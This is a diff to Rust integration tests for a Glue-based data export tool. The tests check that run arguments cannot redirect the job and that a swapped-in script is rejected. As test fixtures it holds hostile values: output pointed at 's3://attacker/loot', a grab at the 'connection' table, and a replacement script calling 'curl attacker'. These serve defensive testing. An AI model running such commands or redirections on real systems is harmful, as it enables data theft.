@@ -144,6 +144,7 @@ fn request(to: &str, tables: &[&str]) -> Request {
         format: ExportFormat::Parquet,
         page_rows: 1000,
         timeout: Duration::from_secs(30),
+        columns: Default::default(),
     }
 }
 
@@ -278,14 +279,19 @@ async fn glue_mode_against_moto() {
     let script = windsock::export::s3::get(&s3c, "scripts", key)
         .await
         .unwrap();
-    assert_eq!(script, glue::SCRIPT.as_bytes());
+    assert_eq!(script, glue::script().as_bytes());
+    // The uploaded script carries the column policy, verbatim.
+    let text = String::from_utf8(script.clone()).unwrap();
+    assert!(text.contains(windsock::export::mask::POLICY_JSON.trim_end()));
+    assert!(!text.contains("\nPOLICY_JSON = None\n"));
     assert_eq!(job.execution_property().unwrap().max_concurrent_runs(), 1);
     assert_eq!(
         job.connections().unwrap().connections(),
         ["windsock-airflow-metadata"]
     );
-    // The run's arguments: the window, the tables with their window
-    // columns for Airflow 3, the format and the output.
+    // The run's arguments: the window only. What is read and where it is
+    // written are the job's NonOverridableArguments: the tables with their
+    // window columns for Airflow 3, the format and the output.
     let runs = gluec
         .get_job_runs()
         .job_name("windsock-export")
@@ -293,10 +299,13 @@ async fn glue_mode_against_moto() {
         .await
         .unwrap();
     assert_eq!(runs.job_runs().len(), 1);
-    let args = runs.job_runs()[0].arguments().unwrap();
-    assert_eq!(args["--window_start"], "2026-11-24T00:00:00Z");
-    assert_eq!(args["--window_end"], "2026-11-25T00:00:00Z");
+    let run_args = runs.job_runs()[0].arguments().unwrap();
+    assert_eq!(run_args["--window_start"], "2026-11-24T00:00:00Z");
+    assert_eq!(run_args["--window_end"], "2026-11-25T00:00:00Z");
+    let args = job.non_overridable_arguments().unwrap();
     assert_eq!(args["--output"], "s3://lake/exports");
+    let fixed_tables = args["--tables"].clone();
+    assert_eq!(run_args["--output"], "s3://lake/exports");
     assert_eq!(args["--format"], "parquet");
     assert_eq!(args["--connection_name"], "windsock-airflow-metadata");
     let tables: Value = serde_json::from_str(&args["--tables"]).unwrap();
@@ -336,9 +345,13 @@ async fn glue_mode_against_moto() {
         "/moto-api/state-manager/set-transition",
         r#"{"model_name": "glue::job_run", "transition": {"progression": "manual", "times": 1000}}"#,
     );
+    // Started with arguments that try to point the job elsewhere.
     let held = gluec
         .start_job_run()
         .job_name("windsock-export")
+        .arguments("--output", "s3://attacker/loot")
+        .arguments("--tables", r#"[{"table": "connection"}]"#)
+        .arguments("--window_start", "2026-11-20T00:00:00Z")
         .send()
         .await
         .unwrap();
@@ -374,6 +387,35 @@ async fn glue_mode_against_moto() {
     };
     assert_eq!((count("success"), count("skipped")), (2.0, 1.0));
     fake.abort();
+    // Whoever may start the job cannot point it elsewhere or at other
+    // tables: the job's own arguments win (moto applies them last, as Glue).
+    let evil_run = gluec
+        .get_job_run()
+        .job_name("windsock-export")
+        .run_id(held.job_run_id().unwrap())
+        .send()
+        .await
+        .unwrap();
+    let evil_args = evil_run.job_run().unwrap().arguments().unwrap();
+    assert_eq!(evil_args["--output"], "s3://lake/exports");
+    assert_eq!(evil_args["--tables"], fixed_tables);
+    assert_eq!(evil_args["--window_start"], "2026-11-20T00:00:00Z");
+
+    // Someone replaced the uploaded script: windsock refuses to run it.
+    windsock::export::s3::put(
+        &s3c,
+        "scripts",
+        key,
+        b"import os; os.system('curl attacker')".to_vec(),
+        "text/x-python",
+    )
+    .await
+    .unwrap();
+    let err = windsock::export::run_with(&ro, &req, &engine, &metrics)
+        .await
+        .unwrap_err()
+        .to_string();
+    assert!(err.contains("is not the script windsock uploaded"), "{err}");
 }
 
 // ---- Modelled responses, for what moto lacks -----------------------------
@@ -392,7 +434,9 @@ use aws_smithy_mocks::{RuleMode, mock, mock_client};
 #[tokio::test]
 async fn changed_job_definition_is_updated() {
     let s = glue_settings();
-    let (_, hash) = glue::job_update(&s, "s3://scripts/windsock/windsock_export-new.py");
+    let fixed: std::collections::HashMap<String, String> =
+        [("--output".to_owned(), "s3://lake/exports".to_owned())].into();
+    let (_, hash) = glue::job_update(&s, "s3://scripts/windsock/windsock_export-new.py", &fixed);
     for (stored, expect) in [
         ("definition 0123456789abcdef", "updated"),
         (hash.as_str(), "unchanged"),
@@ -419,6 +463,9 @@ async fn changed_job_definition_is_updated() {
                         .and_then(|u| u.execution_property())
                         .map(|e| e.max_concurrent_runs())
                         == Some(1)
+                    && r.job_update()
+                        .and_then(|u| u.non_overridable_arguments())
+                        .is_some_and(|a| a["--output"] == "s3://lake/exports")
             })
             .then_output(|| {
                 UpdateJobOutput::builder()
@@ -426,9 +473,14 @@ async fn changed_job_definition_is_updated() {
                     .build()
             });
         let client = mock_client!(aws_sdk_glue, RuleMode::MatchAny, [&get, &update]);
-        let done = glue::ensure_job(&client, &s, "s3://scripts/windsock/windsock_export-new.py")
-            .await
-            .unwrap();
+        let done = glue::ensure_job(
+            &client,
+            &s,
+            "s3://scripts/windsock/windsock_export-new.py",
+            &fixed,
+        )
+        .await
+        .unwrap();
         assert_eq!(done, expect);
         assert_eq!(update.num_calls(), usize::from(expect == "updated"));
     }
